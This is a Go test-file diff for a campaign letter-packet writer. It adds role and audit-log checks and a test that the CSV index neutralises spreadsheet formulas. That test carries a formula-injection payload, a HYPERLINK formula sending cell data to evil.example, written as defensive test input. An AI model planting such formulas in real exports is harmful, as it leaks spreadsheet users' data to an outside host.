@@ -4,10 +4,12 @@ import (
 	"bytes"
 	"context"
 	"encoding/csv"
+	"errors"
 	"fmt"
 	"os"
 	"path/filepath"
 	"regexp"
+	"strings"
 	"testing"
 	"time"
 
@@ -93,6 +95,99 @@ var maker = func() func(testing.TB) *pdf.Maker {
 
 var pageRE = regexp.MustCompile(`/Type /Page\b[^s]`)
 
+// supporterData acts as a signed-in user with the supporter-data role.
+var supporterData = app.WithActor(context.Background(), app.Actor{UserID: 7, Email: "data@example.org",
+	Roles: []app.Role{app.RoleSupporterData}, Via: "session"})
+
+// recorder keeps audit events in memory.
+type recorder struct {
+	events []string
+	fail   error
+}
+
+func (r *recorder) Record(ctx context.Context, action, subject, detail string) error {
+	if r.fail != nil {
+		return r.fail
+	}
+	a, _ := app.ActorFrom(ctx)
+	r.events = append(r.events, a.Label()+" "+action+" "+subject+" "+detail)
+	return nil
+}
+
+// TestWhoMayPrintPackets: a packet is every letter in full, so only the
+// supporter-data role and the command line print them, and each run is in
+// the audit log before anything is written.
+func TestWhoMayPrintPackets(t *testing.T) {
+	f := newFixture(t)
+	f.add(t, time.Date(2026, 6, 1, 15, 0, 0, 0, time.UTC), true, tonko, dhs)
+	rows := []struct {
+		name string
+		ctx  context.Context
+		want app.ErrorCode // "" allowed
+	}{
+		{"anonymous", context.Background(), app.EUNAUTHORIZED},
+		{"staff", app.WithActor(context.Background(), app.Actor{UserID: 1, Email: "s@example.org", Roles: []app.Role{app.RoleStaff}, Via: "session"}), app.EFORBIDDEN},
+		{"admin and organizer", app.WithActor(context.Background(), app.Actor{UserID: 2, Email: "a@example.org",
+			Roles: []app.Role{app.RoleAdmin, app.RoleOrganizer, app.RoleStaff}, Via: "token"}), app.EFORBIDDEN},
+		{"a background job", app.WithActor(context.Background(), app.Actor{Via: "system"}), app.EFORBIDDEN},
+		{"supporter-data", supporterData, ""},
+		{"command line", app.WithActor(context.Background(), app.Actor{Via: "cli"}), ""},
+	}
+	for _, r := range rows {
+		t.Run(r.name, func(t *testing.T) {
+			rec := &recorder{}
+			dir := filepath.Join(t.TempDir(), "out")
+			w := packets.New(packets.Options{Store: f.db, PDF: maker(t), Audit: rec, Operator: "alice@host"})
+			res, err := w.Write(r.ctx, "free-guan-heng", dir)
+			if r.want != "" {
+				if app.ErrorCodeOf(err) != r.want || res != nil {
+					t.Fatalf("err = %v, want %s", err, r.want)
+				}
+				if _, err := os.Stat(dir); !os.IsNotExist(err) || len(rec.events) != 0 {
+					t.Fatalf("refused but wrote %v / recorded %v", err, rec.events)
+				}
+				return
+			}
+			if err != nil || res.Letters != 2 {
+				t.Fatalf("%v %+v", err, res)
+			}
+			if len(rec.events) != 1 || !strings.Contains(rec.events[0], `packets.write campaign:free-guan-heng {"letters":2,"offices":2,"operator":"alice@host","personal_data":true}`) {
+				t.Fatalf("audit %v", rec.events)
+			}
+		})
+	}
+	// No record, no packets.
+	dir := filepath.Join(t.TempDir(), "out")
+	w := packets.New(packets.Options{Store: f.db, PDF: maker(t), Audit: &recorder{fail: errors.New("disk full")}})
+	if _, err := w.Write(supporterData, "free-guan-heng", dir); err == nil {
+		t.Fatal("packets written without an audit record")
+	}
+	if _, err := os.Stat(dir); !os.IsNotExist(err) {
+		t.Fatalf("wrote %v", err)
+	}
+}
+
+// TestIndexDefusesFormulas: office names come from rosters organizers
+// edit by hand, so index.csv neutralises spreadsheet formulas like every
+// other export.
+func TestIndexDefusesFormulas(t *testing.T) {
+	f := newFixture(t)
+	evil := dhs
+	evil.Key, evil.Name, evil.LastName, evil.Title = "exec:EVIL", `=HYPERLINK("http://evil.example/?"&A1,"open")`, "Evil", "@SUM(1+1)"
+	f.add(t, time.Date(2026, 6, 1, 15, 0, 0, 0, time.UTC), true, evil)
+	dir := t.TempDir()
+	if _, err := packets.New(packets.Options{Store: f.db, PDF: maker(t)}).Write(supporterData, "free-guan-heng", dir); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := readCSV(filepath.Join(dir, "index.csv"))
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%v %v", rows, err)
+	}
+	if office := rows[1][1]; office != `'=HYPERLINK("http://evil.example/?"&A1,"open"), @SUM(1+1)` {
+		t.Errorf("office cell %q", office)
+	}
+}
+
 func TestWritePackets(t *testing.T) {
 	f := newFixture(t)
 	day := time.Date(2026, 6, 1, 15, 0, 0, 0, time.UTC)
@@ -106,7 +201,7 @@ func TestWritePackets(t *testing.T) {
 	w := packets.New(packets.Options{Store: f.db, PDF: maker(t), VolumeSize: 2, PageSize: 3, Location: time.UTC,
 		Clock:    func() time.Time { return day.Add(30 * 24 * time.Hour) },
 		Progress: func(p packets.Progress) { progress = append(progress, p) }})
-	res, err := w.Write(context.Background(), "free-guan-heng", dir)
+	res, err := w.Write(supporterData, "free-guan-heng", dir)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -165,7 +260,7 @@ func readCSV(path string) ([][]string, error) {
 func TestUnknownCampaign(t *testing.T) {
 	f := newFixture(t)
 	w := packets.New(packets.Options{Store: f.db, PDF: maker(t)})
-	if _, err := w.Write(context.Background(), "nope", t.TempDir()); app.ErrorCodeOf(err) != app.ENOTFOUND {
+	if _, err := w.Write(supporterData, "nope", t.TempDir()); app.ErrorCodeOf(err) != app.ENOTFOUND {
 		t.Errorf("err = %v", err)
 	}
 }
@@ -182,7 +277,7 @@ func BenchmarkPackets(b *testing.B) {
 	dir := b.TempDir()
 	b.ReportAllocs()
 	b.ResetTimer()
-	res, err := w.Write(context.Background(), "free-guan-heng", dir)
+	res, err := w.Write(supporterData, "free-guan-heng", dir)
 	if err != nil || res.Letters != b.N {
 		b.Fatal(res, err)
 	}
